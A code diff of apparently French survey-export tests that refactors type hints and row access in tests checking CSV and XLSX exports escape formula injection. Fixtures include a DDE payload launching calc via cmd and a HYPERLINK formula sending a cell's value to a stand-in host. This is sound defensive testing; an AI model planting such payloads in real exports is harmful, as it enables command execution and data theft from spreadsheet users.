@@ -12,7 +12,7 @@ from fne_surveys.results.exports import csv_chunks, workbook
 FORMULA = '=HYPERLINK("https://x.example/?"&A1;"Voir")'
 
 
-async def batches():  # type: ignore[no-untyped-def]
+async def batches():
     yield [["r1", FORMULA, "+cmd|' /C calc'!A0", -2, "@x", "ordinaire"]]
 
 
@@ -22,7 +22,7 @@ async def test_the_csv_and_xlsx_exports_of_answers_neutralise_formulas() -> None
     row = list(csv.reader(io.StringIO(text)))[1]
     assert row == ["r1", "'" + FORMULA, "'+cmd|' /C calc'!A0", "-2", "'@x", "ordinaire"]
     sheet = load_workbook(io.BytesIO(await workbook(header, batches()))).active
-    cells = list(sheet.iter_rows(min_row=2))[0]
+    cells = next(iter(sheet.iter_rows(min_row=2)))
     assert [cell.value for cell in cells] == [
         "r1",
         "'" + FORMULA,
@@ -45,7 +45,7 @@ def test_the_xlsform_workbook_keeps_formula_like_text_exact_and_inert() -> None:
 
 async def test_eight_concurrent_writers_queue_instead_of_failing(
     databases, identity_keys, coordinator
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     from sqlalchemy import func, select
 
     from fne_kernel.db import session_factory
